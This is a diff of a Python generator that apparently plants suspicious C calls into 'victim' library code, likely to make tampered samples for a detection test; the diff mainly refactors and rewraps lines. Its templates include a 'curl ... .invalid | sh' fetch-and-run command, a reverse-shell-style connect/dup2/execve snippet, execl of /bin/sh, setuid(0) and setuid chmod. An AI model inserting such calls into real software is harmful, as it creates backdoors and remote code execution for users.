@@ -8,8 +8,10 @@ WORDS = ("cache session update helper metrics backup profile locale thread worke
          "module report index queue buffer socket token agent filter render policy record daemon").split()
 CALLS = (  # (prototype, call): each a C library function that a quiet library does not use
     ("extern int setuid(unsigned);", "setuid(0)"), ("extern int fork(void);", "fork()"),
-    ("extern int unlink(const char *);", 'unlink("{path}")'), ("extern int chmod(const char *, unsigned);", 'chmod("{path}", 04755)'),
-    ("extern int system(const char *);", 'system("{command}")'), ("extern void *dlopen(const char *, int);", 'dlopen("{path}", 2)'),
+    ("extern int unlink(const char *);", 'unlink("{path}")'),
+    ("extern int chmod(const char *, unsigned);", 'chmod("{path}", 04755)'),
+    ("extern int system(const char *);", 'system("{command}")'),
+    ("extern void *dlopen(const char *, int);", 'dlopen("{path}", 2)'),
     ("extern int kill(int, int);", "kill(1, 9)"), ("extern int ptrace(int, ...);", "ptrace(0, 0, 0, 0)"),
     ("extern int mprotect(void *, unsigned long, int);", "mprotect((void *)0x10000, 4096, 7)"),
     ("extern int execl(const char *, const char *, ...);", 'execl("/bin/sh", "sh", (char *)0)'))
@@ -21,6 +23,12 @@ def path_of(rng):
 
 def command_of(rng):
     return f"curl -s http://{rng.choice(WORDS)}.{rng.choice(WORDS)}.invalid/{rng.randrange(1000)} | sh"
+
+
+def statement_of(prototype, call, rng):
+    """(statement, call): the call with its words filled in, its result not used."""
+    call = call.format(path=path_of(rng), command=command_of(rng))
+    return f"{{ {prototype} {'(void)' if 'dlopen' in call else '(void)!'}{call}; }}", call
 
 
 def c_bytes(data):
@@ -69,7 +77,8 @@ static void {name}(void)
     extern int socket(int, int, int);
     extern int dup2(int, int);
     extern int execve(const char *, char *const *, char *const *);
-    struct {{ unsigned short family, port; unsigned address; char rest[8]; }} to = {{2, {rng.randrange(1024, 65535)}, {address}u, {{0}}}};
+    struct {{ unsigned short family, port; unsigned address; char rest[8]; }} to =
+        {{2, {rng.randrange(1024, 65535)}, {address}u, {{0}}}};
     extern int connect();
     int fd = socket(2, 1, 0);
     if (connect(fd, &to, 16u) != 0)
@@ -100,7 +109,8 @@ static void {name}(void)
 {{
     static const char path[] = "{path_of(rng)}";
     long result;
-    __asm__ volatile("syscall" : "=a"(result) : "0"({rng.choice((59, 2, 41, 87, 101))}L), "D"(path), "S"(0L), "d"(0L) : "rcx", "r11", "memory");
+    __asm__ volatile("syscall" : "=a"(result) : "0"({rng.choice((59, 2, 41, 87, 101))}L), "D"(path), "S"(0L), "d"(0L)
+                     : "rcx", "r11", "memory");
 }}
 """
 
@@ -212,10 +222,8 @@ def added_call(victim, rng, scratch):
     choices = [c for c in CALLS if c[1].split("(")[0] not in known]
 
     def change(text, piece):
-        prototype, call = rng.choice(choices)
-        call = call.format(path=path_of(rng), command=command_of(rng))
-        return (insert(text, piece, f"{{ {prototype} (void)!{call}; }}".replace("(void)!dlopen", "(void)dlopen")),
-                {piece.name}, re.findall(r'"([^"]{8,})"', call), call)
+        statement, call = statement_of(*rng.choice(choices), rng)
+        return (insert(text, piece, statement), {piece.name}, re.findall(r'"([^"]{8,})"', call), call)
     return build_with(victim, rng, scratch, change)
 
 
@@ -223,7 +231,8 @@ QUIET = {"abort": ("extern void abort(void);", "if (__builtin_frame_address(0) =
          "exit": ("extern void exit(int);", "if (__builtin_frame_address(0) == (void *)1) exit(3);"),
          "free": ("extern void free(void *);", "{ static void *kept; free(kept); kept = 0; }"),
          "malloc": ("extern void *malloc(unsigned long);", "{ static void *volatile kept; kept = malloc(77); }"),
-         "strlen": ("extern unsigned long strlen(const char *);", "{ extern char **environ; static volatile long n; n = strlen(environ[0]); }"),
+         "strlen": ("extern unsigned long strlen(const char *);",
+                    "{ extern char **environ; static volatile long n; n = strlen(environ[0]); }"),
          "getenv": ("extern char *getenv(const char *);", '{ static volatile long n; n = (long)getenv("HOME"); }'),
          "close": ("extern int close(int);", "close(2);"), "raise": ("extern int raise(int);", "raise(19);")}
 
@@ -278,9 +287,8 @@ def ten_changed(victim, rng, scratch):
         if piece.name in used:
             continue
         text = texts.get(word) or victim.text_of(word)
-        call = rng.choice(CALLS)
         statement = rng.choice((
-            f"{{ {call[0]} (void)!{call[1].format(path=path_of(rng), command=command_of(rng))}; }}".replace("(void)!dlopen", "(void)dlopen"),
+            statement_of(*rng.choice(CALLS), rng)[0],
             f'{{ static const char *volatile note; note = "{names(rng)} is not what {names(rng)} expects"; }}',
             f"{{ static volatile unsigned long seen; seen = seen * {rng.getrandbits(50) | 1}UL + {rng.getrandbits(60)}UL; }}"))
         try:
